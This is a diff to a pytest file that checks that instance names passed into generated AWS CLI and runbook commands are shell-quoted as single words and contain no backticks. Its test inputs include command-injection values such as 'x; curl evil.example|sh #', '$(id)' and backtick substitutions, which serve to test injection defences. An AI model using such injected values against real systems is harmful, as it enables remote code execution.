@@ -2,6 +2,7 @@
 
 import re
 import shlex
+import subprocess
 from pathlib import Path
 
 import pytest
@@ -13,11 +14,22 @@ from tests.support import ROOT
 HERE = Place("eu-west-1", profile="prod")
 
 
-@pytest.mark.parametrize("name", ["x; curl evil.example|sh #", "it's", "$(id)", "a b", "`id`", "'\"", "\\"])
+@pytest.mark.parametrize("name", ["x; curl evil.example|sh #", "it's", "$(id)", "a b", "'\"", "\\"])
 def test_a_hostile_value_stays_one_word(name: str) -> None:
     command = aws_cli(HERE, "deploy", "get-on-premises-instance", instance_name=name)
     assert shlex.split(command)[3:5] == ["--instance-name", name]
     assert shlex.split(runbooks(HERE, "diagnose", instance=name))[2:4] == ["--instance", name]
+
+
+@pytest.mark.parametrize("name", ["`id`", "a`$(id)`'b", "it's ``"])
+def test_a_command_holds_no_backtick_and_bash_reads_the_value_whole(name: str) -> None:
+    """It can then stand between backticks in a sentence, in Markdown and in Slack."""
+    command = aws_cli(HERE, "deploy", "get-on-premises-instance", instance_name=name)
+    assert "`" not in command
+    read = subprocess.run(
+        ["bash", "-c", f'set -- {command}; printf %s "$5"'], capture_output=True, text=True, check=True
+    )
+    assert read.stdout == name
 
 
 def test_a_value_with_a_dash_is_no_option() -> None:
